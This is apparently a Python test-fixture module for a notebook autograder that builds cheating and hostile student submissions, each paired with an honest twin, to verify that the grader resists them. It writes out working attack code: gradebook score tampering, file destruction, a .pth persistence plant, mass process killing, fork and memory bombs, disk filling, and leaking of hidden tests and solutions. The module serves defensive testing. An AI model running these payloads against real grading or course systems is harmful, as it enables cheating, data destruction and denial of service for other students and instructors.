"""The hostile student: submissions that try to cheat, leak or damage, each with an honest twin.

Every variant starts from a *wrong* submission (the reference with one exercise replaced
by a catalogued mutant, so it deserves less than full marks) and adds an attack to that
exercise's answer cell. Its honest twin is the same wrong submission without the attack.
``tests/test_hostile.py`` grades them all in one batch beside honest students and checks
that no attack pays, hurts anyone else, survives the batch or leaks a hidden line.

The attacks are written as a student would write them: plain code in an answer cell,
aimed at what the grader's machine holds (paths are filled in by :func:`build`).
"""
from __future__ import annotations

import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from grader.cells import answer_cells
from grader.demo import mutant_source, replace_definition, solved
from grader.lectures import Lecture
from tests.hostile import html_js


@dataclass(frozen=True)
class Target:
    """What an attacker aims at on the grader's machine."""

    course_root: Path  # the nbgrader course directory (gradebook, release, submitted, ...)
    site_packages: Path
    project_root: Path
    marker: Path  # a file an attack that escaped would create


ATTACKS: dict[str, str] = {
    "import-reference": """
        try:
            from solutions.{slug} import {name}  # the reference is installed on the grader's machine
        except Exception:
            pass
    """,
    "patch-checks": """
        import course.checks as _checks
        for _n in ("expect_close", "expect_equal", "expect_true", "expect_raises", "expect_unchanged"):
            setattr(_checks, _n, lambda *a, **k: None)
        _checks.describe_mismatch = lambda *a, **k: None
        _checks.call = lambda f, *a, **k: f(*a, **k)
        globals().update({{n: getattr(_checks, n) for n in ("expect_close", "expect_equal", "expect_true", "call")}})
    """,
    "patch-hidden-machinery": """
        import sys
        for _mod in list(sys.modules.values()):
            _book = getattr(_mod, "book", None)
            if _book is not None and hasattr(_book, "scenarios"):
                _book.scenarios.clear()
        try:
            import grader.hidden as _h
            _h.run_hidden = lambda *a, **k: []
            _h.check_hidden = lambda *a, **k: None
        except Exception:
            pass
        try:
            import numpy as _np
            _np.allclose = lambda *a, **k: True
            _np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool)
        except Exception:
            pass
    """,
    "input-transformer": """
        try:
            _ip = get_ipython()
            _ip.input_transformers_post.append(lambda lines: ["pass\\n"] if any("passed(" in l for l in lines) else lines)
            import ast as _ast
            class _Quiet(_ast.NodeTransformer):
                def visit_Module(self, node):
                    return _ast.Module(body=[_ast.Pass()], type_ignores=[])
            _ip.ast_transformers.append(_Quiet())
        except NameError:
            pass
    """,
    "write-gradebook": """
        import sqlite3, glob, os
        for _db in glob.glob("{course_root}/*.db") + ["{course_root}/gradebook.db"]:
            try:
                _c = sqlite3.connect(_db)
                _c.execute("update grade set manual_score = 999, auto_score = 999")
                _c.execute("update submitted_notebook set flagged = 0")
                _c.commit()
            except Exception:
                pass
        for _p in glob.glob("{course_root}/grading_status*") + glob.glob("{course_root}/**/*.json", recursive=True):
            try:
                open(_p, "w").write("{{}}")
            except Exception:
                pass
    """,
    "detached-process": """
        import subprocess, sys
        _code = ("import time, glob\\n"
                 "time.sleep(2)\\n"
                 "open('{marker}', 'w').write('escaped')\\n"
                 "for p in glob.glob('{course_root}/autograded/**/*.ipynb', recursive=True):\\n"
                 "    open(p, 'w').write('{{}}')\\n")
        try:
            subprocess.Popen([sys.executable, "-c", _code], start_new_session=True,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except Exception:
            pass
        try:
            import os
            if os.fork() == 0:
                os.setsid()
                exec(_code)
                os._exit(0)
        except Exception:
            pass
    """,
    "vandal": """
        import glob, os, shutil, signal
        for _p in glob.glob("{course_root}/submitted/*/*/*.ipynb") + glob.glob("{course_root}/source/*/*.ipynb"):
            try:
                open(_p, "w").write("{{}}")
            except Exception:
                pass
        for _d in ("{course_root}/release", "{course_root}/autograded", "{project_root}/solutions"):
            shutil.rmtree(_d, ignore_errors=True)
        for _p in ("{site_packages}/zz_hostile.pth", "{project_root}/course/zz_hostile.py", "{marker}"):
            try:
                open(_p, "w").write("import os; os.system('touch {marker}')")
            except Exception:
                pass
        for _pid in range(1, 4096):
            if _pid != os.getpid():
                try:
                    os.kill(_pid, signal.SIGKILL)
                except Exception:
                    pass
    """,
    "leak-sources": """
        import glob
        _found = []
        for _pattern in ("{project_root}/grader/hidden/*.py", "{project_root}/solutions/*.py",
                         "/**/grader/hidden/*.py", "/**/solutions/*.py"):
            for _p in glob.glob(_pattern, recursive=True):
                try:
                    _found.append(open(_p).read())
                except Exception:
                    pass
        try:
            import gc
            _found += [repr(getattr(o, "__doc__", "")) for o in gc.get_objects() if type(o).__name__ == "Scenario"]
        except Exception:
            pass
        print("\\n".join(_found)[:20000])
        if _found:
            raise RuntimeError("\\n".join(_found)[:5000])
    """,
    "huge-output": """
        print("x" * 200_000_000)
    """,
    "memory-bomb": """
        try:
            _hog = bytearray(16 * 2**30)
        except MemoryError:
            pass
    """,
    "fork-bomb": """
        import os
        _children = []
        try:
            for _ in range(3000):
                _pid = os.fork()
                if _pid == 0:
                    import time
                    time.sleep(30)
                    os._exit(0)
                _children.append(_pid)
        except Exception:
            pass
    """,
    # Resource attacks: each is graded beside an honest neighbour (RESOURCE_ATTACKS).
    "disk-fill": """
        import os
        for _folder in (os.path.expanduser("~"), os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"):
            for _i in range(64):  # 64 files of 64 MB (under the per-file limit) per folder
                try:
                    with open(os.path.join(_folder, "fill-%d" % _i), "wb") as _f:
                        for _ in range(64):
                            _f.write(b"x" * 2**20)
                except Exception:
                    break
    """,
    "memory-fill": """
        import subprocess, sys, time
        _code = ("import time  # {marker}\\n"
                 "_b = bytearray(1536 * 2**20)\\n"
                 "for _i in range(0, len(_b), 4096):\\n"
                 "    _b[_i] = 1\\n"
                 "time.sleep(10)\\n")
        _fillers = []
        for _ in range(4):  # 4 x 1.5 GiB: each under the per-process limit, together past the submission's
            try:
                _fillers.append(subprocess.Popen([sys.executable, "-c", _code], start_new_session=True,
                                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
            except Exception:
                pass
        _until = time.time() + 12  # stay until they have filled (on a busy machine that takes seconds)
        for _filler in _fillers:
            try:
                _filler.wait(timeout=max(0.1, _until - time.time()))
            except Exception:
                pass
    """,
    "cpu-hog": """
        import os, time
        _end = time.time() + 10
        for _ in range(48):
            try:
                if os.fork() == 0:
                    os.setsid()
                    while time.time() < _end:
                        pass
                    os._exit(0)
            except Exception:
                pass
    """,
    "thread-flood": """
        import threading, time
        threading.stack_size(128 * 1024)
        _threads = []
        try:
            for _ in range(20000):
                _t = threading.Thread(target=time.sleep, args=(10,), daemon=True)
                _t.start()
                _threads.append(_t)
        except Exception:
            pass
        threading.stack_size(0)
    """,
    "retry-loop": """
        import time
        _deadline = time.time() + 3600
        while time.time() < _deadline:
            try:
                time.sleep(0.05)
            except:  # noqa: E722 - the honest retry loop that swallows the time-limit interrupt
                pass
    """,
    "network": """
        import socket
        for _port in (8786, 8787, 5432, 22, 80):
            try:
                socket.create_connection(("127.0.0.1", _port), timeout=0.5).close()
                open("{marker}", "w").write("connected to %d" % _port)
            except Exception:
                pass
    """,
    "forge-results": """
        import os, json
        for _fd in range(3, 64):
            try:
                os.write(_fd, (json.dumps({{"kind": "scenario", "name": "{name}", "index": _i, "status": "ok",
                                            "value": 0.0}}) + "\\n").encode() if False else b"")
            except Exception:
                pass
        for _fd in range(3, 64):
            for _i in range(40):
                try:
                    os.write(_fd, (json.dumps({{"kind": "scenario", "name": "{name}", "index": _i,
                                                "status": "ok", "value": 0.0}}) + "\\n").encode())
                except Exception:
                    break
    """,
    "encoded-leak": """
        import base64 as _b64, codecs as _codecs, sys as _sys
        import numpy as _np
        _wrong, _steps = {name}, {{}}

        def _hidden_secrets(args):
            # The scenario's inputs, and its constants, locals and file read from the calling frames.
            found = [repr(tuple(a.tolist() if hasattr(a, "tolist") else a for a in args))]
            frame, step = _sys._getframe(2), None
            while frame is not None:
                if "hidden" in frame.f_code.co_filename:
                    found += [repr(frame.f_code.co_consts), frame.f_code.co_filename,
                              repr({{k: v for k, v in frame.f_locals.items() if not callable(v)}})]
                    step = _steps.setdefault(frame.f_code, len(_steps))  # one encoding per scenario
                frame = frame.f_back
            return (" ".join(found), step) if step is not None else (None, None)

        class _Loud:
            def __init__(self, text):
                self.text = text
            def __repr__(self):
                return self.text

        def {name}(*args, **kwargs):
            secret, step = _hidden_secrets(args)
            if secret is None:  # the student's own kernel: the (wrong) answer, nothing to see
                return _wrong(*args, **kwargs)
            encoded = " | ".join([_codecs.encode(secret, "rot13"), _b64.b64encode(secret.encode()).decode(),
                                  secret.encode().hex(), secret[::-1]])
            codes = [ord(c) for c in secret]
            step %= 7
            if step == 0:
                raise type("Leak_" + secret.encode().hex()[:120], (Exception,), {{}})(encoded)
            if step == 1:
                raise ValueError(encoded)
            if step == 2:
                return _np.array(codes, dtype=float)
            if step == 3:
                return encoded
            if step == 4:
                return _Loud(encoded)
            if step == 5:
                return {{encoded[:200]: codes[:50]}}
            return float(int.from_bytes(secret[:6].encode(), "big"))
    """,
}


# Script in outputs and markdown, aimed at the instructor's Formgrader and feedback pages.
ATTACKS["html-js"] = html_js.ATTACK
# Cells an attack adds or edits beside its code: attack -> function(notebook, the attacked cell).
EXTRA_CELLS = {"html-js": html_js.add_markdown}


RESOURCE_ATTACKS = ("disk-fill", "memory-fill", "cpu-hog", "thread-flood")


def neighbour(attack: str) -> str:
    """The honest student graded right after ``attack`` (names sort next to each other)."""
    return f"m-{attack}-neighbour"


def wrong_submission(lecture: Lecture) -> tuple[NotebookNode, NotebookNode, str]:
    """The reference with its first exercise replaced by a mutant: (notebook, the cell, the name)."""
    from tests.mutants import load_catalogue

    notebook = solved(lecture)
    cell = answer_cells(notebook)[0]
    catalogue = load_catalogue(lecture.slug)
    mutant = next(m for m in catalogue.mutants if m.name in cell.source)
    cell.source = replace_definition(cell.source, mutant.name, mutant_source(mutant.implementation))
    return notebook, cell, mutant.name


def build(lecture: Lecture, attack: str, target: Target) -> NotebookNode:
    """The wrong submission with ``attack`` appended to its first answer cell."""
    notebook, cell, name = wrong_submission(lecture)
    code = textwrap.dedent(ATTACKS[attack]).format(slug=lecture.slug, name=name, course_root=target.course_root,
                                                   site_packages=target.site_packages,
                                                   project_root=target.project_root, marker=target.marker)
    cell.source = cell.source.rstrip("\n") + "\n\n" + code.strip("\n")
    if attack in EXTRA_CELLS:
        EXTRA_CELLS[attack](notebook, cell)
    return notebook


def write_class(folder: Path, lecture: Lecture, target: Target) -> dict[str, str]:
    """Write honest students (one beside each resource attack), the twin and every attack;
    return {student: kind}."""
    kinds = {"a-honest-first": "honest", "twin": "twin", "z-honest-last": "honest"}
    notebooks = {"a-honest-first": solved(lecture), "twin": wrong_submission(lecture)[0],
                 "z-honest-last": solved(lecture)}
    for attack in ATTACKS:
        notebooks[f"m-{attack}"] = build(lecture, attack, target)
        kinds[f"m-{attack}"] = "attack"
    for attack in RESOURCE_ATTACKS:
        notebooks[neighbour(attack)] = solved(lecture)
        kinds[neighbour(attack)] = "honest"
    for student, notebook in notebooks.items():
        path = folder / student / lecture.assignment / lecture.notebook_name
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook, path)
    return kinds
